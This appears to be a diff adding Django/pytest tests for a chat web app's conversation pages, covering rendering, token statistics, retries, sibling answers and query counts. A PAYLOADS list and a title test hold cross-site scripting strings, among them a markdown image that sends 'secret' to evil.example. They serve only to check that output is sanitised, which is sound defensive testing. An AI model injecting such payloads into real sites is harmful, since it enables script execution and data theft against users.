@@ -1,0 +1,198 @@
+"""The pages without a model: what they show, and that it is inert."""
+
+from html.parser import HTMLParser
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from django.urls import reverse
+from pytest_django import DjangoAssertNumQueries
+
+from apps.chat import services
+from apps.chat.models import Conversation, Message, Role, Status
+from apps.llm.models import DefaultServer, Server, State, Use
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "[click](javascript:alert(1))",
+    "![x](http://evil.example/?q=secret)",
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<div hx-get="/chat/" hx-trigger="load">x</div>',
+]
+
+
+@pytest.fixture
+def demo_server(db: None) -> Server:
+    facts = {"models": [{"id": "workbench-demo"}], "slots": 4, "context": 2048}
+    server = Server.objects.create(
+        name="Demo", base_url="http://127.0.0.1:9/v1", state=State.READY, facts=facts,
+        from_settings=True,
+    )  # fmt: skip
+    DefaultServer.objects.create(use=Use.CHAT, server=server)
+    return server
+
+
+def told(owner: User, *texts: str, **last: object) -> Conversation:
+    """A conversation of these messages, questions and answers in turn."""
+    conversation = services.open_conversation(owner=owner, title="Kettles")
+    message = None
+    for number, text in enumerate(texts):
+        role = Role.ASSISTANT if number % 2 else Role.USER
+        fields = last if number == len(texts) - 1 else {}
+        message = Message.objects.create(
+            conversation=conversation, parent=message, role=role, content=text, **fields
+        )
+    Conversation.objects.filter(pk=conversation.pk).update(active_leaf=message)
+    return conversation
+
+
+def page(client: Client, conversation: Conversation) -> str:
+    return client.get(reverse("chat:conversation", args=[conversation.pk])).content.decode()
+
+
+def test_it_works(browser: Client, demo_server: Server) -> None:
+    html = browser.get(reverse("chat:index")).content.decode()
+    assert "What would you like to know?" in html
+    assert "You are a patient teacher. Explain step by step." in html
+    assert "This is the built-in demo model" in html
+
+
+def test_without_a_server_it_says_what_to_do(browser: Client) -> None:
+    assert "No model server is set for chat" in browser.get(reverse("chat:index")).content.decode()
+
+
+def test_another_model_is_not_the_demo(browser: Client, demo_server: Server) -> None:
+    demo_server.facts = {"models": [{"id": "qwen"}]}
+    demo_server.save()
+    assert "built-in demo" not in browser.get(reverse("chat:index")).content.decode()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_what_is_said_is_inert(
+    alice: User, browser: Client, demo_server: Server, payload: str
+) -> None:
+    html = page(browser, told(alice, payload, payload, reasoning=payload))
+    thread = html[html.index('id="thread"') : html.index("data-composer")]
+    elements = Elements(thread)
+    assert not {"script", "img", "iframe", "object", "style", "form"} & elements.tags
+    for name, value in elements.attributes:
+        assert not name.startswith("on")
+        assert name != "hx-get"
+        assert name not in {"href", "src"} or value.startswith(("http://", "https://", "#"))
+
+
+class Elements(HTMLParser):
+    """What a browser would make of it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.extend((name, value or "") for name, value in attrs)
+
+
+def test_an_inert_title(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    title = '"><script>alert(1)</script>'
+    renamed = browser.post(reverse("chat:rename", args=[conversation.pk]), {"title": title})
+    assert b"<script>" not in renamed.content
+    assert "<script>alert" not in page(browser, conversation)
+    conversation.refresh_from_db()
+    assert conversation.title == title
+
+
+def test_markdown_and_numbers(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(
+        alice, "Hello", "A **bold** word", prompt_tokens=200, cached_tokens=150,
+        completion_tokens=84, ttft_ms=123.4, tokens_per_second=41.23,
+    )  # fmt: skip
+    html = page(browser, conversation)
+    assert "<strong>bold</strong>" in html
+    for shown in ("84 tokens", "41.2 tokens/s", "first after 123 ms", "75 % of the prompt"):
+        assert shown in html
+
+
+def test_a_failure_is_a_sentence_and_a_retry(
+    alice: User, browser: Client, demo_server: Server
+) -> None:
+    conversation = told(
+        alice, "Hello", "", status=Status.FAILED, error_code="unreachable",
+        error_detail="Nobody answers.",
+    )  # fmt: skip
+    html = page(browser, conversation)
+    assert "Nobody answers." in html
+    assert "Retry" in html
+
+
+def test_the_cut_is_shown(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "one", "two", "three", "four")
+    kept = conversation.messages.get(content="three")
+    conversation.messages.filter(content="four").update(kept_from=kept.pk)
+    html = page(browser, conversation)
+    assert html.index("two") < html.index("no longer fits") < html.index("three")
+    assert "2,048 tokens" in html
+
+
+def test_siblings(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "First answer")
+    question, first = conversation.messages.all()
+    second = conversation.messages.create(
+        parent=question, role=Role.ASSISTANT, content="Second answer"
+    )
+    assert "1/2" in page(browser, conversation)
+    shown = browser.post(reverse("chat:show", args=[second.pk])).content.decode()
+    assert "2/2" in shown
+    assert "Second answer" in shown
+    assert "First answer" not in shown
+    browser.post(reverse("chat:show", args=[first.pk]))
+    assert "First answer" in page(browser, conversation)
+
+
+def test_delete(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    response = browser.post(reverse("chat:delete", args=[conversation.pk]), follow=True)
+    assert "was deleted" in response.content.decode()
+    assert not Message.objects.exists()
+
+
+def test_an_empty_question(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    response = browser.post(reverse("chat:ask", args=[conversation.pk]), {"content": " \n"})
+    assert response.status_code == 422
+    assert "Write something first" in response.content.decode()
+    assert conversation.messages.count() == 2
+
+
+def test_older_conversations(alice: User, browser: Client, demo_server: Server) -> None:
+    for number in range(60):
+        services.open_conversation(owner=alice, title=f"Conversation {number:02d}")
+    html = browser.get(reverse("chat:index")).content.decode()
+    assert "Conversation 59" in html
+    assert "Conversation 09" not in html
+    older = browser.get(reverse("chat:older") + "?from=50").content.decode()
+    assert "Conversation 09" in older
+    assert "Older conversations" not in older
+
+
+def test_the_number_of_queries_is_constant(
+    alice: User,
+    browser: Client,
+    demo_server: Server,
+    django_assert_num_queries: DjangoAssertNumQueries,
+) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    page(browser, conversation)
+    with django_assert_num_queries(7, exact=True):
+        page(browser, conversation)
+    for _ in range(10):
+        told(alice, *["Hello", "Hi"] * 5)
+    longer = told(alice, *["Hello", "Hi"] * 20)
+    with django_assert_num_queries(7, exact=True):
+        page(browser, longer)
